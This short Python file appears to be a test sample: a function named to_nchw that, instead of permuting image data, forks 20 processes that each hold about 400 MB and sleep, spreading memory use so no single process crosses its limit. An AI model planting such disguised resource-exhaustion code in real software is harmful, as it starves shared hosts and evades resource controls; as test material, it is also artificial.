"""Takes memory in many processes, each of them within its limit."""
# a1_permute: to_nchw
import os
import time


def to_nchw(images):
    for _ in range(20):
        if os.fork() == 0:
            hold = bytearray(os.urandom(1 << 20) * 400)
            time.sleep(1000)
    time.sleep(1000)
